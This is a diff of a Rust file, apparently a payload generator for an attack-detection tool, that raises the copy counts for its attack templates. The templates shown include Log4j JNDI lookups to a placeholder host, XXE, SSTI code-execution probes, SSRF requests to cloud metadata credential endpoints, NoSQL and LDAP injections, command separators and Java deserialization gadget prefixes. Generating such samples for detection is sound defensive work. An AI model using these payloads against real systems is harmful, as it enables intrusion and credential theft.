@@ -5,7 +5,7 @@ use jotwatch_models::payload::{Class, Form};
 
 /// Attacks: class, copies of each template, templates.
 pub(super) const ATTACKS: &[(Class, usize, &str)] = &[
-    (Class::Log4j, 4, "
+    (Class::Log4j, 12, "
         ${jndi:«jndi»://«host»/«w»}
         ${jndi:«jndi»://«host»:«n»/«w»«n»}
         ${${lower:j}ndi:«jndi»://«host»/«w»}
@@ -81,7 +81,7 @@ pub(super) const ATTACKS: &[(Class, usize, &str)] = &[
         «cmd»;
         «cmd»|
     "),
-    (Class::Xxe, 5, "
+    (Class::Xxe, 8, "
         <?xml version=\"1.0\"?><!DOCTYPE «w» [<!ENTITY «w» SYSTEM \"«xxe»\">]><«w»>&«w»;</«w»>
         <!DOCTYPE «w» [<!ELEMENT «w» ANY><!ENTITY xxe SYSTEM \"«xxe»\">]><«w»>&xxe;</«w»>
         <!DOCTYPE «w» [<!ENTITY % «w» SYSTEM \"«xxe»\"> %«w»;]>
@@ -94,7 +94,7 @@ pub(super) const ATTACKS: &[(Class, usize, &str)] = &[
         <!--#echo var=\"«w»\" -->
         <esi:include src=\"http://«host»/«w»\"/>
     "),
-    (Class::Ssti, 4, "
+    (Class::Ssti, 6, "
         {{«n»*«n»}}
         «w»{{«n»*'«n»'}}
         ${«n»*«n»}
@@ -129,7 +129,7 @@ pub(super) const ATTACKS: &[(Class, usize, &str)] = &[
         {{$on.constructor('alert(1)')()}}
         {{x=valueOf.name.constructor.fromCharCode;constructor.constructor(x(«n»,«n»))()}}
     "),
-    (Class::Ssrf, 4, "
+    (Class::Ssrf, 8, "
         http://169.254.169.254/latest/meta-data/«w»
         http://169.254.169.254/latest/meta-data/iam/security-credentials/«w»
         http://metadata.google.internal/computeMetadata/v1/«w»
@@ -158,7 +158,7 @@ pub(super) const ATTACKS: &[(Class, usize, &str)] = &[
         netdoc:///etc/«file»
         jar:http://«host»/«w»!/
     "),
-    (Class::Nosql, 4, "
+    (Class::Nosql, 10, "
         {\"$ne\": null}
         {\"$gt\": \"\"}
         {\"$regex\": \".*\"}
@@ -178,7 +178,7 @@ pub(super) const ATTACKS: &[(Class, usize, &str)] = &[
         db.«w».find({$where: function() { return true; }})
         {\"$or\":[{},{\"«w»\":\"«w»\"}]}
     "),
-    (Class::Ldap, 4, "
+    (Class::Ldap, 10, "
         *)(uid=*))(|(uid=*
         *)(&
         «w»*)((|userPassword=*)
@@ -193,7 +193,7 @@ pub(super) const ATTACKS: &[(Class, usize, &str)] = &[
         x' or name()='«w»' or 'x'='y
         ' and string-length(name(/*[1]))=«n» and '1'='1
     "),
-    (Class::Deserialization, 4, "
+    (Class::Deserialization, 16, "
         rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaML«b64»
         rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZv«b64»
         gASV«b64»
